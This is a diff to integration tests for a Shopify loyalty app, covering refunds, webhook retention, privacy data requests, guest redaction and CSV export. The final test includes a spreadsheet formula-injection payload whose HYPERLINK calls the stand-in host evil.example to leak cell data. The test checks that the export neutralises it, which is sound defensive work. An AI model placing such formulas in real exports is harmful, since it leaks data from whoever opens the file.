@@ -2,7 +2,7 @@ import { createHash } from 'node:crypto';
 import { getJwt, TEST_SHOP, TEST_SHOP_NAME } from '@shopify/shopify-api/test-helpers';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { Client } from '../../core/test/support/harness';
-import { adminLoad, customerPayload, orderPayload, type OrderSpec, refundPayload } from './support/orders';
+import { adminLoad, customerPayload, lineId, orderPayload, type OrderSpec, refundPayload } from './support/orders';
 import { type Production, startProduction } from './support/production';
 import { creatorFor, streakWithFirstDayReward } from './support/programs';
 import { SHOPIFY, webhookRequest } from './support/stack';
@@ -96,6 +96,8 @@ afterAll(() => prod?.close());
 describe('order facts and attribution', () => {
   const CUSTOMER = 7350127;
   const OTHER = 7350128;
+  // A customer whose orders only the refund and retention tests look at.
+  const THIRD = 7350129;
   let code = '';
   let streakId = '';
   const earnFromOrders = () =>
@@ -217,13 +219,27 @@ describe('order facts and attribution', () => {
       cancelled_at: new Date().toISOString(),
     });
     await deliver('orders/paid', orderPayload(9011, { customer: { id: OTHER }, lines: ONE_LINE, total: '30.00' }));
+    // Refunded shipping as API 2024-10 and later send it: beside the lines, not among the order's adjustments.
+    await deliver('orders/paid', orderPayload(9012, { customer: { id: THIRD }, lines: ONE_LINE, total: '17.00' }));
+    await deliver('refunds/create', {
+      ...refundPayload(80, 9012, [{ position: 1, quantity: 1, subtotal: '10.00' }]),
+      refund_shipping_lines: [
+        {
+          id: 801,
+          shipping_line_id: 1,
+          subtotal_amount_set: { shop_money: { amount: '5.00', currency_code: 'USD' } },
+          tax_amount_set: { shop_money: { amount: '2.00', currency_code: 'USD' } },
+        },
+      ],
+    });
     const { rows } = await prod.appPool.query(
-      'select order_id, amount, refunded from order_facts where shop = $1 and order_id in ($2, $3) order by order_id',
-      [TEST_SHOP, '9010', '9011'],
+      'select order_id, amount, refunded from order_facts where shop = $1 and order_id in ($2, $3, $4) order by order_id',
+      [TEST_SHOP, '9010', '9011', '9012'],
     );
     expect(rows).toEqual([
       { order_id: '9010', amount: 30, refunded: 12.5 },
       { order_id: '9011', amount: 30, refunded: 30 },
+      { order_id: '9012', amount: 17, refunded: 17 },
     ]);
   });
 
@@ -247,8 +263,23 @@ describe('order facts and attribution', () => {
         )
       ).rows[0];
     await until('order 9020 worked off', async () => (await payloadOf('9020'))?.status === 'done');
+    // A cancellation and a refund of orders the app never saw paid (placed before it was installed, never paid) wait for them.
+    await deliver('orders/cancelled', {
+      ...orderPayload(9023, { customer: { id: THIRD }, lines: ONE_LINE }),
+      cancelled_at: new Date().toISOString(),
+      shipping_address: { address1: '1 Secret Lane' },
+    });
+    await deliver('refunds/create', refundPayload(79, 9024, [{ position: 1, quantity: 1, subtotal: '10.00' }]));
+    const waiting = async () =>
+      (
+        await prod.appPool.query<{ topic: string; status: string; payload: Record<string, unknown> }>(
+          "select topic, status, payload from shopify_webhooks where shop = $1 and order_id in ('9023', '9024') order by topic",
+          [TEST_SHOP],
+        )
+      ).rows;
+    await until('both waiting', async () => (await waiting()).every((r) => r.status === 'waiting') && (await waiting()).length === 2);
     await prod.appPool.query(
-      "update shopify_webhooks set created_at = now() - interval '31 days' where shop = $1 and subject = 'order:9020'",
+      "update shopify_webhooks set created_at = now() - interval '31 days' where shop = $1 and (subject = 'order:9020' or order_id in ('9023', '9024'))",
       [TEST_SHOP],
     );
     // The worker drops expired facts and old payloads when it starts (and every hour after).
@@ -262,6 +293,25 @@ describe('order facts and attribution', () => {
       60_000,
     );
     await until('its payload emptied', async () => Object.keys((await payloadOf('9020'))!.payload).length === 0);
+    // The waiting ones keep only what they will read if their order comes.
+    await until('the waiting payloads trimmed', async () => {
+      const [cancelled, refund] = await waiting();
+      return Object.keys(cancelled!.payload).length === 2 && !('note' in refund!.payload) ? [cancelled, refund] : undefined;
+    });
+    const [cancelled, refund] = await waiting();
+    expect(cancelled).toMatchObject({
+      topic: 'orders/cancelled',
+      status: 'waiting',
+      payload: { id: 9023, cancelled_at: expect.any(String) },
+    });
+    expect(refund).toMatchObject({ topic: 'refunds/create', status: 'waiting' });
+    expect(Object.keys(refund!.payload).sort()).toEqual(['id', 'order_adjustments', 'order_id', 'refund_line_items']);
+    // And still take back their share when it comes.
+    await deliver('orders/paid', orderPayload(9024, { customer: { id: THIRD }, lines: ONE_LINE, total: '30.00' }));
+    await until('the trimmed refund applied', async () => {
+      const { rows } = await prod.appPool.query("select refunded from shopify_orders where shop = $1 and order_id = '9024'", [TEST_SHOP]);
+      return rows[0]?.refunded?.[String(lineId(9024, 1))] === 1;
+    });
     expect((await payloadOf('9001'))!.payload).toMatchObject({ id: 9001, email: expect.any(String) });
     expect(
       (await prod.appPool.query("select count(*)::int as n from order_facts where shop = $1 and order_id in ('9001', '9004')", [TEST_SHOP]))
@@ -295,15 +345,19 @@ describe('order facts and attribution', () => {
     await deliver('customers/data_request', {
       shop_domain: TEST_SHOP,
       customer: { id: CUSTOMER, email: `c${CUSTOMER}@example.com` },
+      orders_requested: [9031],
       data_request: { id: 77001 },
     });
     const exported = (
       await prod.appPool.query('select export from data_requests where shop = $1 and request_id = $2', [TEST_SHOP, '77001'])
     ).rows[0]!.export;
     expect(exported.member).toMatchObject({ externalId: `gid://shopify/Customer/${CUSTOMER}` });
-    expect(exported.pointEntries).toEqual(expect.any(Array));
+    // Every kind of record the erasure takes (CONTRACT §9): what was sent about them among them.
+    for (const kind of ['pointEntries', 'taskProgress', 'notifications']) expect(exported[kind], kind).toEqual(expect.any(Array));
+    expect(exported.events.length).toBeGreaterThan(0);
     expect(exported.app.order_facts.map((f: { order_id: string }) => f.order_id)).toEqual(expect.arrayContaining(['9001']));
-    expect(exported.app.shopify_orders.map((o: { order_id: string }) => o.order_id)).toEqual(expect.arrayContaining(['9001']));
+    // Their orders, and the guest order Shopify names with them.
+    expect(exported.app.shopify_orders.map((o: { order_id: string }) => o.order_id)).toEqual(expect.arrayContaining(['9001', '9031']));
     expect(exported.app.shopify_webhooks.map((w: { subject: string }) => w.subject)).toEqual(
       expect.arrayContaining([`verified:${CUSTOMER}`, 'order:9001']),
     );
@@ -334,6 +388,18 @@ describe('order facts and attribution', () => {
     expect(
       (await prod.appPool.query('select count(*)::int as n from order_facts where customer_id = $1', [String(OTHER)])).rows[0],
     ).toEqual({ n: 4 });
+    // A redaction naming a guest's orders and no customer id erases those orders.
+    const anotherGuest = 'another-guest@example.com';
+    await deliver('orders/paid', { ...orderPayload(9032, { customer: null, lines: ONE_LINE, total: '10.00' }), email: anotherGuest });
+    await until('the other guest order worked off', async () => {
+      const { rows } = await prod.appPool.query("select status from shopify_webhooks where shop = $1 and subject = 'order:9032'", [
+        TEST_SHOP,
+      ]);
+      return rows[0]?.status === 'done';
+    });
+    expect(await mentions(anotherGuest)).not.toEqual([]);
+    await deliver('customers/redact', { shop_domain: TEST_SHOP, customer: { email: anotherGuest }, orders_to_redact: [9032] });
+    expect(await mentions(anotherGuest)).toEqual([]);
   });
 
   it('every order of a customer counts as a member’s from the first the program earned for, however the webhooks race', async () => {
@@ -547,5 +613,13 @@ describe('the exports’ points and tiers (CONTRACT §19)', () => {
     );
     const buyer = rows.find((r) => column(r, 'shopify_customer_id') === facts[0]!.customer_id)!;
     expect([column(buyer, 'orders'), column(buyer, 'order_total'), column(buyer, 'tier')]).toEqual([facts[0]!.orders, facts[0]!.total, '']);
+  });
+
+  it('a name a spreadsheet would run as a formula goes out as text', async () => {
+    const names = { firstName: '=HYPERLINK("http://evil.example/?x="&A1,"click")', lastName: '@SUM(A1)' };
+    await created('/schema/account_user/record', { externalId: 'gid://shopify/Customer/7359999', ...names });
+    const body = await (await adminLoad(prod.url, '/app/members.csv')).text();
+    const line = body.split('\r\n').find((l) => l.startsWith('7359999,'));
+    expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'@SUM(A1),`);
   });
 });
